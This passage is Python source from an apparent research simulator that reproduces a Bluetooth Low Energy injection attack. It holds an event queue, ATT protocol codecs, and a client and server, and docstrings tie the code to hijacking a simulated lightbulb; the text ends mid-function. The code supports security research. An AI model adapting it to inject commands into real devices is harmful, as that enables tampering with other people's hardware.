Hot-path notes
--------------
The queue is the single busiest structure of a run (every frame, window
and timeout passes through it), so it avoids per-event overhead:

* heap entries are plain ``(time_us, seq, event)`` tuples — ordering is
  resolved by cheap tuple comparison instead of dataclass ``__lt__``
  dispatch, and ``seq`` is unique so the comparison never reaches the
  :class:`Event` object itself;
* :class:`Event` is a ``__slots__`` handle (no per-instance ``__dict__``);
* ``len(queue)`` is O(1): a live (non-cancelled, non-popped) counter is
  maintained by ``push``/``pop``/``cancel``/``clear`` instead of scanning
  the heap.
"""

from __future__ import annotations

import heapq
import itertools
from typing import Callable, Optional

from repro.errors import SchedulingError

#: Canonical tolerance for comparing µs timestamps.  Timestamps are float
#: true-time; arithmetic on them (clock-rate conversion, window widening)
#: accumulates rounding in the last few ulps, so "same instant" and
#: "not earlier than" checks must allow this slack instead of an inline
#: literal per call site (the ``float-time-eq`` lint checker flags those).
TIME_EPS_US = 1e-9


class Event:
    """A scheduled callback handle.

    Events fire in ``(time_us, seq)`` order; ``seq`` increases
    monotonically, so simultaneous events fire in scheduling order
    (deterministic).

    Attributes:
        time_us: absolute simulator (true) time at which to fire.
        seq: tie-breaker assigned by the queue.
        handler: zero-argument callable invoked when the event fires.
        label: human-readable tag for traces and debugging.
        cancelled: set via :meth:`cancel`; cancelled events are skipped.
    """

    __slots__ = ("time_us", "seq", "handler", "label", "cancelled", "_queue")

    def __init__(
        self,
        time_us: float,
        seq: int,
        handler: Callable[[], None],
        label: str = "",
        queue: Optional["EventQueue"] = None,
    ):
        self.time_us = time_us
        self.seq = seq
        self.handler = handler
        self.label = label
        self.cancelled = False
        self._queue = queue

    @property
    def pending(self) -> bool:
        """Whether the event is still queued (not yet fired, not cancelled)."""
        return self._queue is not None

    def cancel(self) -> None:
        """Mark the event so the queue drops it instead of firing it."""
        if self.cancelled:
            return
        self.cancelled = True
        queue = self._queue
        if queue is not None:
            # Still sitting in a queue: keep its live count accurate.
            queue._live -= 1
            self._queue = None

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        state = " cancelled" if self.cancelled else ""
        return f"<Event t={self.time_us} seq={self.seq} {self.label!r}{state}>"


class EventQueue:
    """A time-ordered queue of :class:`Event` objects."""

    __slots__ = ("_heap", "_seq", "_live")

    def __init__(self) -> None:
        self._heap: list[tuple[float, int, Event]] = []
        self._seq = itertools.count()
        self._live = 0

    def __len__(self) -> int:
        return self._live

    def push(self, time_us: float, handler: Callable[[], None], label: str = "") -> Event:
        """Schedule ``handler`` at ``time_us`` and return the event handle."""
        if not callable(handler):
            raise SchedulingError(f"handler is not callable: {handler!r}")
        seq = next(self._seq)
        event = Event(time_us, seq, handler, label, self)
        heapq.heappush(self._heap, (time_us, seq, event))
        self._live += 1
        return event

    def pop(self) -> Optional[Event]:
        """Remove and return the earliest non-cancelled event, or ``None``."""
        heap = self._heap
        while heap:
            event = heapq.heappop(heap)[2]
            if not event.cancelled:
                # Detached: a later cancel() must not touch our counter.
                event._queue = None
                self._live -= 1
                return event
            # Cancelled entries were uncounted at cancel() time.
        return None

    def pop_due(self, until_us: Optional[float]) -> Optional[Event]:
        """Pop the earliest live event due at or before ``until_us``.

        Returns ``None`` when the queue is drained *or* the next event lies
        beyond the horizon (callers distinguish the two via ``len(self)``).
        Cancelled heap entries encountered on the way are discarded, exactly
        as :meth:`pop`/:meth:`peek_time` do.
        """
        heap = self._heap
        while heap:
            head = heap[0]
            event = head[2]
            if event.cancelled:
                heapq.heappop(heap)
                continue
            if until_us is not None and head[0] > until_us:
                return None
            heapq.heappop(heap)
            event._queue = None
            self._live -= 1
            return event
        return None

    def peek_time(self) -> Optional[float]:
        """Time of the next non-cancelled event without removing it."""
        heap = self._heap
        while heap and heap[0][2].cancelled:
            heapq.heappop(heap)
        return heap[0][0] if heap else None

    def clear(self) -> None:
        """Drop every pending event.

        Every dropped event is *marked cancelled*: callers holding a handle
        across a queue reset must see ``cancelled == True`` rather than a
        stale-but-live-looking event that will never fire.
        """
        for _, _, event in self._heap:
            event.cancelled = True
            event._queue = None
        self._heap.clear()
        self._live = 0
