"""ATT client: request issuing, pending-request tracking, notifications.

The client is transport-agnostic: it is constructed with a ``send``
callable and fed incoming PDUs through :meth:`on_pdu`.  The host glue in
:mod:`repro.host.stack` wires it to a Link-Layer device; the attacker's
hijacking stacks wire the same class to their own raw transports.
"""

from __future__ import annotations

from collections import deque
from typing import Callable, Optional

from repro.errors import HostError
from repro.host.att.pdus import (
    AttPdu,
    ErrorRsp,
    ExchangeMtuReq,
    FindInformationReq,
    HandleValueCfm,
    HandleValueInd,
    HandleValueNtf,
    ReadByGroupTypeReq,
    ReadByTypeReq,
    ReadReq,
    WriteCmd,
    WriteReq,
    decode_att_pdu,
)

#: Response callback type.
ResponseCallback = Callable[[AttPdu], None]


class AttClient:
    """Issues ATT requests and matches responses to callbacks.

    ATT allows one outstanding request at a time; further requests are
    queued and sent as responses arrive.

    Args:
        send: callable delivering raw ATT bytes to the peer.
    """

    def __init__(self, send: Callable[[bytes], None]):
        self._send = send
        self._pending: Optional[ResponseCallback] = None
        self._queue: deque[tuple[bytes, Optional[ResponseCallback]]] = deque()
        #: Called for every Handle Value Notification / Indication.
        self.on_notification: Optional[Callable[[int, bytes], None]] = None

    # ------------------------------------------------------------------
    # Requests
    # ------------------------------------------------------------------

    def _submit(self, pdu_bytes: bytes, callback: Optional[ResponseCallback]
                ) -> None:
        if self._pending is None:
            if callback is not None:
                self._pending = callback
            self._send(pdu_bytes)
        else:
            self._queue.append((pdu_bytes, callback))

    def exchange_mtu(self, mtu: int = 23,
                     callback: Optional[ResponseCallback] = None) -> None:
        """Send Exchange MTU Request."""
        self._submit(ExchangeMtuReq(mtu).to_bytes(), callback or (lambda _: None))

    def read(self, handle: int, callback: ResponseCallback) -> None:
        """Send Read Request for ``handle``."""
        self._submit(ReadReq(handle).to_bytes(), callback)

    def read_by_type(self, uuid: int, callback: ResponseCallback,
                     start: int = 1, end: int = 0xFFFF) -> None:
        """Send Read By Type Request (e.g. UUID 0x2A00 = Device Name)."""
        self._submit(ReadByTypeReq(start, end, uuid).to_bytes(), callback)

    def read_by_group_type(self, callback: ResponseCallback, start: int = 1,
                           end: int = 0xFFFF, uuid: int = 0x2800) -> None:
        """Send Read By Group Type Request (primary service discovery)."""
        self._submit(ReadByGroupTypeReq(start, end, uuid).to_bytes(), callback)

    def find_information(self, start: int, end: int,
                         callback: ResponseCallback) -> None:
        """Send Find Information Request."""
        self._submit(FindInformationReq(start, end).to_bytes(), callback)

    def write(self, handle: int, value: bytes,
              callback: Optional[ResponseCallback] = None) -> None:
        """Send Write Request for ``handle``."""
        self._submit(WriteReq(handle, value).to_bytes(),
                     callback or (lambda _: None))

    def write_command(self, handle: int, value: bytes) -> None:
        """Send Write Command (no response expected, bypasses the queue)."""
        self._send(WriteCmd(handle, value).to_bytes())

    # ------------------------------------------------------------------
    # Incoming traffic
    # ------------------------------------------------------------------

    def on_pdu(self, data: bytes) -> None:
        """Feed one incoming ATT PDU from the transport."""
        try:
            pdu = decode_att_pdu(data)
        except Exception:
            return
        if isinstance(pdu, HandleValueNtf):
            if self.on_notification is not None:
                self.on_notification(pdu.handle, pdu.value)
            return
        if isinstance(pdu, HandleValueInd):
            if self.on_notification is not None:
                self.on_notification(pdu.handle, pdu.value)
            self._send(HandleValueCfm().to_bytes())
            return
        callback = self._pending
        self._pending = None
        if callback is not None:
            callback(pdu)
        self._drain()

    def _drain(self) -> None:
        if self._pending is not None or not self._queue:
            return
        pdu_bytes, callback = self._queue.popleft()
        if callback is not None:
            self._pending = callback
        self._send(pdu_bytes)

    @property
    def busy(self) -> bool:
        """Whether a request is outstanding."""
        return self._pending is not None
