"""ATT opcodes and error codes (Core Spec Vol 3 Part F)."""

from __future__ import annotations

import enum


class AttOpcode(enum.IntEnum):
    """Attribute-protocol method opcodes."""

    ERROR_RSP = 0x01
    EXCHANGE_MTU_REQ = 0x02
    EXCHANGE_MTU_RSP = 0x03
    FIND_INFORMATION_REQ = 0x04
    FIND_INFORMATION_RSP = 0x05
    READ_BY_TYPE_REQ = 0x08
    READ_BY_TYPE_RSP = 0x09
    READ_REQ = 0x0A
    READ_RSP = 0x0B
    READ_BY_GROUP_TYPE_REQ = 0x10
    READ_BY_GROUP_TYPE_RSP = 0x11
    WRITE_REQ = 0x12
    WRITE_RSP = 0x13
    HANDLE_VALUE_NTF = 0x1B
    HANDLE_VALUE_IND = 0x1D
    HANDLE_VALUE_CFM = 0x1E
    WRITE_CMD = 0x52


class AttError(enum.IntEnum):
    """ATT error codes carried in Error Response."""

    INVALID_HANDLE = 0x01
    READ_NOT_PERMITTED = 0x02
    WRITE_NOT_PERMITTED = 0x03
    INVALID_PDU = 0x04
    INSUFFICIENT_AUTHENTICATION = 0x05
    REQUEST_NOT_SUPPORTED = 0x06
    INVALID_OFFSET = 0x07
    INSUFFICIENT_AUTHORIZATION = 0x08
    ATTRIBUTE_NOT_FOUND = 0x0A
    INSUFFICIENT_ENCRYPTION = 0x0F
    UNLIKELY_ERROR = 0x0E
    INVALID_ATTRIBUTE_VALUE_LENGTH = 0x0D
