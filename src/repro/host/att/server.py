"""ATT server: the attribute database and request handling.

An ATT server is "a database of attributes" (paper §III-A): each attribute
has a handle, a 16-bit type UUID, a value and permissions.  The server maps
every incoming request PDU to a response PDU; writes can trigger
application callbacks — which is how an injected Write Request turns the
simulated lightbulb off.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Optional

from repro.errors import AttError as AttException
from repro.errors import HostError
from repro.host.att.opcodes import AttError, AttOpcode
from repro.host.att.pdus import (
    AttPdu,
    ErrorRsp,
    ExchangeMtuReq,
    ExchangeMtuRsp,
    FindInformationReq,
    FindInformationRsp,
    HandleValueCfm,
    ReadByGroupTypeReq,
    ReadByGroupTypeRsp,
    ReadByTypeReq,
    ReadByTypeRsp,
    ReadReq,
    ReadRsp,
    WriteCmd,
    WriteReq,
    WriteRsp,
    decode_att_pdu,
)

#: Type of a write callback: (handle, value) -> None.
WriteHook = Callable[[int, bytes], None]
#: Type of a read callback: (handle,) -> value; overrides the stored value.
ReadHook = Callable[[int], bytes]


@dataclass
class Attribute:
    """One row of the ATT database.

    Attributes:
        handle: 16-bit attribute handle (unique, ascending).
        type_uuid: 16-bit attribute type.
        value: current value bytes.
        readable / writable: permission flags.
        write_hook: called after a permitted write updates ``value``.
        read_hook: if set, produces the value returned to readers.
    """

    handle: int
    type_uuid: int
    value: bytes = b""
    readable: bool = True
    writable: bool = False
    write_hook: Optional[WriteHook] = None
    read_hook: Optional[ReadHook] = None

    def current_value(self) -> bytes:
        """Value as seen by a reader (hook takes precedence)."""
        if self.read_hook is not None:
            return self.read_hook(self.handle)
        return self.value


class AttributeDb:
    """Ordered collection of attributes with range queries."""

    def __init__(self) -> None:
        self._attrs: dict[int, Attribute] = {}
        self._next_handle = 1

    def add(self, attribute: Attribute) -> Attribute:
        """Insert an attribute; handles must strictly increase."""
        if attribute.handle in self._attrs:
            raise HostError(f"duplicate handle 0x{attribute.handle:04X}")
        if attribute.handle < self._next_handle:
            raise HostError(
                f"handle 0x{attribute.handle:04X} not ascending "
                f"(next free is 0x{self._next_handle:04X})"
            )
        self._attrs[attribute.handle] = attribute
        self._next_handle = attribute.handle + 1
        return attribute

    def allocate(self, type_uuid: int, **kwargs) -> Attribute:
        """Create an attribute at the next free handle."""
        attr = Attribute(handle=self._next_handle, type_uuid=type_uuid, **kwargs)
        return self.add(attr)

    def get(self, handle: int) -> Optional[Attribute]:
        """Attribute at ``handle``, or ``None``."""
        return self._attrs.get(handle)

    def in_range(self, start: int, end: int) -> list[Attribute]:
        """Attributes with ``start <= handle <= end``, ascending."""
        return [self._attrs[h] for h in sorted(self._attrs) if start <= h <= end]

    def by_type(self, type_uuid: int, start: int = 1, end: int = 0xFFFF
                ) -> list[Attribute]:
        """Attributes of a given type within a handle range."""
        return [a for a in self.in_range(start, end) if a.type_uuid == type_uuid]

    def __len__(self) -> int:
        return len(self._attrs)

    def handles(self) -> list[int]:
        """All handles, ascending."""
        return sorted(self._attrs)


class AttServer:
    """Request/response engine over an :class:`AttributeDb`.

    Args:
        db: the attribute database to serve.
        mtu: server MTU used in Exchange MTU and to truncate responses.
    """

    def __init__(self, db: AttributeDb, mtu: int = 23):
        self.db = db
        self.mtu = mtu

    def handle_request(self, request: bytes) -> Optional[bytes]:
        """Process an incoming ATT PDU; returns the response bytes.

        Commands (Write Command) and confirmations return ``None`` because
        the protocol defines no response for them.
        """
        try:
            pdu = decode_att_pdu(request)
        except Exception:
            return ErrorRsp(request[0] if request else 0, 0,
                            AttError.INVALID_PDU).to_bytes()
        response = self._dispatch(pdu, request)
        return response.to_bytes() if response is not None else None

    def _dispatch(self, pdu: AttPdu, raw: bytes) -> Optional[AttPdu]:
        if isinstance(pdu, ExchangeMtuReq):
            return ExchangeMtuRsp(mtu=self.mtu)
        if isinstance(pdu, ReadReq):
            return self._read(pdu)
        if isinstance(pdu, WriteReq):
            return self._write(pdu)
        if isinstance(pdu, WriteCmd):
            self._write_no_rsp(pdu)
            return None
        if isinstance(pdu, ReadByTypeReq):
            return self._read_by_type(pdu)
        if isinstance(pdu, ReadByGroupTypeReq):
            return self._read_by_group_type(pdu)
        if isinstance(pdu, FindInformationReq):
            return self._find_information(pdu)
        if isinstance(pdu, HandleValueCfm):
            return None
        return ErrorRsp(raw[0], 0, AttError.REQUEST_NOT_SUPPORTED)

    def _read(self, pdu: ReadReq) -> AttPdu:
        attr = self.db.get(pdu.handle)
        if attr is None:
            return ErrorRsp(AttOpcode.READ_REQ, pdu.handle,
                            AttError.INVALID_HANDLE)
        if not attr.readable:
            return ErrorRsp(AttOpcode.READ_REQ, pdu.handle,
                            AttError.READ_NOT_PERMITTED)
        return ReadRsp(attr.current_value()[: self.mtu - 1])

    def _write(self, pdu: WriteReq) -> AttPdu:
        attr = self.db.get(pdu.handle)
        if attr is None:
            return ErrorRsp(AttOpcode.WRITE_REQ, pdu.handle,
                            AttError.INVALID_HANDLE)
        if not attr.writable:
            return ErrorRsp(AttOpcode.WRITE_REQ, pdu.handle,
                            AttError.WRITE_NOT_PERMITTED)
        try:
            attr.value = pdu.value
            if attr.write_hook is not None:
                attr.write_hook(pdu.handle, pdu.value)
        except AttException as exc:
            return ErrorRsp(AttOpcode.WRITE_REQ, pdu.handle, AttError(exc.code))
        return WriteRsp()

    def _write_no_rsp(self, pdu: WriteCmd) -> None:
        attr = self.db.get(pdu.handle)
        if attr is None or not attr.writable:
            return  # commands fail silently by design
        attr.value = pdu.value
        if attr.write_hook is not None:
            attr.write_hook(pdu.handle, pdu.value)

    def _read_by_type(self, pdu: ReadByTypeReq) -> AttPdu:
        matches = [
            a for a in self.db.by_type(pdu.uuid, pdu.start_handle, pdu.end_handle)
            if a.readable
        ]
        if not matches:
            return ErrorRsp(AttOpcode.READ_BY_TYPE_REQ, pdu.start_handle,
                            AttError.ATTRIBUTE_NOT_FOUND)
        # All records must share one length: serve the first run.
        first_len = len(matches[0].current_value())
        records = []
        for attr in matches:
            value = attr.current_value()
            if len(value) != first_len:
                break
            records.append((attr.handle, value))
        return ReadByTypeRsp(tuple(records))

    def _read_by_group_type(self, pdu: ReadByGroupTypeReq) -> AttPdu:
        groups = self.db.by_type(pdu.uuid, pdu.start_handle, pdu.end_handle)
        if not groups:
            return ErrorRsp(AttOpcode.READ_BY_GROUP_TYPE_REQ, pdu.start_handle,
                            AttError.ATTRIBUTE_NOT_FOUND)
        handles = self.db.handles()
        records = []
        first_len = len(groups[0].current_value())
        for attr in groups:
            if len(attr.current_value()) != first_len:
                break
            later_groups = [
                h for h in handles
                if h > attr.handle and self.db.get(h).type_uuid == pdu.uuid
            ]
            end = (later_groups[0] - 1) if later_groups else handles[-1]
            records.append((attr.handle, end, attr.current_value()))
        return ReadByGroupTypeRsp(tuple(records))

    def _find_information(self, pdu: FindInformationReq) -> AttPdu:
        attrs = self.db.in_range(pdu.start_handle, pdu.end_handle)
        if not attrs:
            return ErrorRsp(AttOpcode.FIND_INFORMATION_REQ, pdu.start_handle,
                            AttError.ATTRIBUTE_NOT_FOUND)
        pairs = tuple((a.handle, a.type_uuid) for a in attrs[:5])
        return FindInformationRsp(pairs)
