"""ATT PDU codecs.

Each PDU is a frozen dataclass with ``to_bytes`` / ``from_bytes``; the
module-level :func:`decode_att_pdu` dispatches on the opcode byte.  These
are the payloads Scenario A injects: a *Write Request* turning the paper's
lightbulb off is exactly ``WriteReq(handle, value).to_bytes()`` wrapped in
L2CAP and a data PDU.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Union

from repro.errors import CodecError
from repro.host.att.opcodes import AttError, AttOpcode


@dataclass(frozen=True)
class ErrorRsp:
    """Error Response: which request failed, on what handle, and why."""

    request_opcode: int
    handle: int
    error: AttError

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return bytes([AttOpcode.ERROR_RSP, self.request_opcode]) + \
            self.handle.to_bytes(2, "little") + bytes([int(self.error)])

    @classmethod
    def from_bytes(cls, data: bytes) -> "ErrorRsp":
        """Decode from wire bytes."""
        if len(data) != 5:
            raise CodecError(f"ERROR_RSP must be 5 bytes, got {len(data)}")
        return cls(data[1], int.from_bytes(data[2:4], "little"), AttError(data[4]))


@dataclass(frozen=True)
class ExchangeMtuReq:
    """Exchange MTU Request."""

    mtu: int = 23

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return bytes([AttOpcode.EXCHANGE_MTU_REQ]) + self.mtu.to_bytes(2, "little")

    @classmethod
    def from_bytes(cls, data: bytes) -> "ExchangeMtuReq":
        """Decode from wire bytes."""
        if len(data) != 3:
            raise CodecError("EXCHANGE_MTU_REQ must be 3 bytes")
        return cls(int.from_bytes(data[1:3], "little"))


@dataclass(frozen=True)
class ExchangeMtuRsp:
    """Exchange MTU Response."""

    mtu: int = 23

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return bytes([AttOpcode.EXCHANGE_MTU_RSP]) + self.mtu.to_bytes(2, "little")

    @classmethod
    def from_bytes(cls, data: bytes) -> "ExchangeMtuRsp":
        """Decode from wire bytes."""
        if len(data) != 3:
            raise CodecError("EXCHANGE_MTU_RSP must be 3 bytes")
        return cls(int.from_bytes(data[1:3], "little"))


@dataclass(frozen=True)
class FindInformationReq:
    """Find Information Request over a handle range."""

    start_handle: int
    end_handle: int

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return (bytes([AttOpcode.FIND_INFORMATION_REQ])
                + self.start_handle.to_bytes(2, "little")
                + self.end_handle.to_bytes(2, "little"))

    @classmethod
    def from_bytes(cls, data: bytes) -> "FindInformationReq":
        """Decode from wire bytes."""
        if len(data) != 5:
            raise CodecError("FIND_INFORMATION_REQ must be 5 bytes")
        return cls(int.from_bytes(data[1:3], "little"),
                   int.from_bytes(data[3:5], "little"))


@dataclass(frozen=True)
class FindInformationRsp:
    """Find Information Response: (handle, 16-bit uuid) pairs (format 1)."""

    pairs: tuple[tuple[int, int], ...]

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        out = bytearray([AttOpcode.FIND_INFORMATION_RSP, 0x01])
        for handle, uuid in self.pairs:
            out += handle.to_bytes(2, "little") + uuid.to_bytes(2, "little")
        return bytes(out)

    @classmethod
    def from_bytes(cls, data: bytes) -> "FindInformationRsp":
        """Decode from wire bytes."""
        if len(data) < 2 or data[1] != 0x01 or (len(data) - 2) % 4:
            raise CodecError("malformed FIND_INFORMATION_RSP")
        pairs = tuple(
            (int.from_bytes(data[i : i + 2], "little"),
             int.from_bytes(data[i + 2 : i + 4], "little"))
            for i in range(2, len(data), 4)
        )
        return cls(pairs)


@dataclass(frozen=True)
class ReadByTypeReq:
    """Read By Type Request (e.g. read Device Name by UUID 0x2A00)."""

    start_handle: int
    end_handle: int
    uuid: int

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return (bytes([AttOpcode.READ_BY_TYPE_REQ])
                + self.start_handle.to_bytes(2, "little")
                + self.end_handle.to_bytes(2, "little")
                + self.uuid.to_bytes(2, "little"))

    @classmethod
    def from_bytes(cls, data: bytes) -> "ReadByTypeReq":
        """Decode from wire bytes."""
        if len(data) != 7:
            raise CodecError("READ_BY_TYPE_REQ must be 7 bytes (16-bit UUID)")
        return cls(int.from_bytes(data[1:3], "little"),
                   int.from_bytes(data[3:5], "little"),
                   int.from_bytes(data[5:7], "little"))


@dataclass(frozen=True)
class ReadByTypeRsp:
    """Read By Type Response: uniform-length (handle, value) records."""

    records: tuple[tuple[int, bytes], ...]

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        if not self.records:
            raise CodecError("READ_BY_TYPE_RSP needs at least one record")
        value_len = len(self.records[0][1])
        if any(len(v) != value_len for _, v in self.records):
            raise CodecError("READ_BY_TYPE_RSP records must be uniform length")
        out = bytearray([AttOpcode.READ_BY_TYPE_RSP, 2 + value_len])
        for handle, value in self.records:
            out += handle.to_bytes(2, "little") + value
        return bytes(out)

    @classmethod
    def from_bytes(cls, data: bytes) -> "ReadByTypeRsp":
        """Decode from wire bytes."""
        if len(data) < 4:
            raise CodecError("READ_BY_TYPE_RSP too short")
        record_len = data[1]
        if record_len < 2 or (len(data) - 2) % record_len:
            raise CodecError("malformed READ_BY_TYPE_RSP")
        records = tuple(
            (int.from_bytes(data[i : i + 2], "little"), data[i + 2 : i + record_len])
            for i in range(2, len(data), record_len)
        )
        return cls(records)


@dataclass(frozen=True)
class ReadByGroupTypeReq:
    """Read By Group Type Request (service discovery)."""

    start_handle: int
    end_handle: int
    uuid: int = 0x2800

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return (bytes([AttOpcode.READ_BY_GROUP_TYPE_REQ])
                + self.start_handle.to_bytes(2, "little")
                + self.end_handle.to_bytes(2, "little")
                + self.uuid.to_bytes(2, "little"))

    @classmethod
    def from_bytes(cls, data: bytes) -> "ReadByGroupTypeReq":
        """Decode from wire bytes."""
        if len(data) != 7:
            raise CodecError("READ_BY_GROUP_TYPE_REQ must be 7 bytes")
        return cls(int.from_bytes(data[1:3], "little"),
                   int.from_bytes(data[3:5], "little"),
                   int.from_bytes(data[5:7], "little"))


@dataclass(frozen=True)
class ReadByGroupTypeRsp:
    """Read By Group Type Response: (start, end, value) records."""

    records: tuple[tuple[int, int, bytes], ...]

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        if not self.records:
            raise CodecError("READ_BY_GROUP_TYPE_RSP needs records")
        value_len = len(self.records[0][2])
        if any(len(v) != value_len for *_, v in self.records):
            raise CodecError("READ_BY_GROUP_TYPE_RSP records must be uniform")
        out = bytearray([AttOpcode.READ_BY_GROUP_TYPE_RSP, 4 + value_len])
        for start, end, value in self.records:
            out += start.to_bytes(2, "little") + end.to_bytes(2, "little") + value
        return bytes(out)

    @classmethod
    def from_bytes(cls, data: bytes) -> "ReadByGroupTypeRsp":
        """Decode from wire bytes."""
        if len(data) < 6:
            raise CodecError("READ_BY_GROUP_TYPE_RSP too short")
        record_len = data[1]
        if record_len < 4 or (len(data) - 2) % record_len:
            raise CodecError("malformed READ_BY_GROUP_TYPE_RSP")
        records = tuple(
            (int.from_bytes(data[i : i + 2], "little"),
             int.from_bytes(data[i + 2 : i + 4], "little"),
             data[i + 4 : i + record_len])
            for i in range(2, len(data), record_len)
        )
        return cls(records)


@dataclass(frozen=True)
class ReadReq:
    """Read Request on a handle (Scenario A's confidentiality primitive)."""

    handle: int

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return bytes([AttOpcode.READ_REQ]) + self.handle.to_bytes(2, "little")

    @classmethod
    def from_bytes(cls, data: bytes) -> "ReadReq":
        """Decode from wire bytes."""
        if len(data) != 3:
            raise CodecError("READ_REQ must be 3 bytes")
        return cls(int.from_bytes(data[1:3], "little"))


@dataclass(frozen=True)
class ReadRsp:
    """Read Response carrying the attribute value."""

    value: bytes

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return bytes([AttOpcode.READ_RSP]) + self.value

    @classmethod
    def from_bytes(cls, data: bytes) -> "ReadRsp":
        """Decode from wire bytes."""
        return cls(data[1:])


@dataclass(frozen=True)
class WriteReq:
    """Write Request (Scenario A's integrity primitive)."""

    handle: int
    value: bytes

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return (bytes([AttOpcode.WRITE_REQ])
                + self.handle.to_bytes(2, "little") + self.value)

    @classmethod
    def from_bytes(cls, data: bytes) -> "WriteReq":
        """Decode from wire bytes."""
        if len(data) < 3:
            raise CodecError("WRITE_REQ too short")
        return cls(int.from_bytes(data[1:3], "little"), data[3:])


@dataclass(frozen=True)
class WriteRsp:
    """Write Response (no fields)."""

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return bytes([AttOpcode.WRITE_RSP])

    @classmethod
    def from_bytes(cls, data: bytes) -> "WriteRsp":
        """Decode from wire bytes."""
        if len(data) != 1:
            raise CodecError("WRITE_RSP must be 1 byte")
        return cls()


@dataclass(frozen=True)
class WriteCmd:
    """Write Command: unacknowledged write."""

    handle: int
    value: bytes

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return (bytes([AttOpcode.WRITE_CMD])
                + self.handle.to_bytes(2, "little") + self.value)

    @classmethod
    def from_bytes(cls, data: bytes) -> "WriteCmd":
        """Decode from wire bytes."""
        if len(data) < 3:
            raise CodecError("WRITE_CMD too short")
        return cls(int.from_bytes(data[1:3], "little"), data[3:])


@dataclass(frozen=True)
class HandleValueNtf:
    """Handle Value Notification (server-initiated, unacknowledged)."""

    handle: int
    value: bytes

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return (bytes([AttOpcode.HANDLE_VALUE_NTF])
                + self.handle.to_bytes(2, "little") + self.value)

    @classmethod
    def from_bytes(cls, data: bytes) -> "HandleValueNtf":
        """Decode from wire bytes."""
        if len(data) < 3:
            raise CodecError("HANDLE_VALUE_NTF too short")
        return cls(int.from_bytes(data[1:3], "little"), data[3:])


@dataclass(frozen=True)
class HandleValueInd:
    """Handle Value Indication (server-initiated, acknowledged)."""

    handle: int
    value: bytes

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return (bytes([AttOpcode.HANDLE_VALUE_IND])
                + self.handle.to_bytes(2, "little") + self.value)

    @classmethod
    def from_bytes(cls, data: bytes) -> "HandleValueInd":
        """Decode from wire bytes."""
        if len(data) < 3:
            raise CodecError("HANDLE_VALUE_IND too short")
        return cls(int.from_bytes(data[1:3], "little"), data[3:])


@dataclass(frozen=True)
class HandleValueCfm:
    """Handle Value Confirmation."""

    def to_bytes(self) -> bytes:
        """Encode to wire bytes."""
        return bytes([AttOpcode.HANDLE_VALUE_CFM])

    @classmethod
    def from_bytes(cls, data: bytes) -> "HandleValueCfm":
        """Decode from wire bytes."""
        if len(data) != 1:
            raise CodecError("HANDLE_VALUE_CFM must be 1 byte")
        return cls()


AttPdu = Union[
    ErrorRsp, ExchangeMtuReq, ExchangeMtuRsp, FindInformationReq,
    FindInformationRsp, ReadByTypeReq, ReadByTypeRsp, ReadByGroupTypeReq,
    ReadByGroupTypeRsp, ReadReq, ReadRsp, WriteReq, WriteRsp, WriteCmd,
    HandleValueNtf, HandleValueInd, HandleValueCfm,
]

_DECODERS = {
    AttOpcode.ERROR_RSP: ErrorRsp,
    AttOpcode.EXCHANGE_MTU_REQ: ExchangeMtuReq,
    AttOpcode.EXCHANGE_MTU_RSP: ExchangeMtuRsp,
    AttOpcode.FIND_INFORMATION_REQ: FindInformationReq,
    AttOpcode.FIND_INFORMATION_RSP: FindInformationRsp,
    AttOpcode.READ_BY_TYPE_REQ: ReadByTypeReq,
    AttOpcode.READ_BY_TYPE_RSP: ReadByTypeRsp,
    AttOpcode.READ_BY_GROUP_TYPE_REQ: ReadByGroupTypeReq,
    AttOpcode.READ_BY_GROUP_TYPE_RSP: ReadByGroupTypeRsp,
    AttOpcode.READ_REQ: ReadReq,
    AttOpcode.READ_RSP: ReadRsp,
    AttOpcode.WRITE_REQ: WriteReq,
    AttOpcode.WRITE_RSP: WriteRsp,
    AttOpcode.WRITE_CMD: WriteCmd,
    AttOpcode.HANDLE_VALUE_NTF: HandleValueNtf,
    AttOpcode.HANDLE_VALUE_IND: HandleValueInd,
    AttOpcode.HANDLE_VALUE_CFM: HandleValueCfm,
}


def decode_att_pdu(data: bytes) -> AttPdu:
    """Decode an ATT PDU from its bytes, dispatching on the opcode."""
    if not data:
        raise CodecError("empty ATT PDU")
    try:
        opcode = AttOpcode(data[0])
    except ValueError:
        raise CodecError(f"unknown ATT opcode 0x{data[0]:02X}") from None
    return _DECODERS[opcode].from_bytes(data)
