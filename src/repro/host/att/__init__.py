"""Attribute Protocol: opcodes, PDU codecs, server and client."""

from repro.host.att.opcodes import AttError as AttErrorCode
from repro.host.att.opcodes import AttOpcode

__all__ = ["AttErrorCode", "AttOpcode"]
