"""GAP advertising data: AD structure codec.

Advertising payloads are sequences of ``length | type | data`` structures.
The sniffer parses them to identify target devices by name, exactly as the
paper's attack tooling identifies the lightbulb/keyfob/smartwatch.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import CodecError

#: AD type: Flags.
AD_FLAGS = 0x01
#: AD type: Complete Local Name.
AD_COMPLETE_LOCAL_NAME = 0x09
#: AD type: Shortened Local Name.
AD_SHORTENED_LOCAL_NAME = 0x08
#: AD type: Complete list of 16-bit service UUIDs.
AD_COMPLETE_16BIT_UUIDS = 0x03
#: AD type: TX Power Level.
AD_TX_POWER = 0x0A


@dataclass(frozen=True)
class AdElement:
    """One AD structure."""

    ad_type: int
    data: bytes

    def to_bytes(self) -> bytes:
        """Encode as length | type | data."""
        if len(self.data) + 1 > 255:
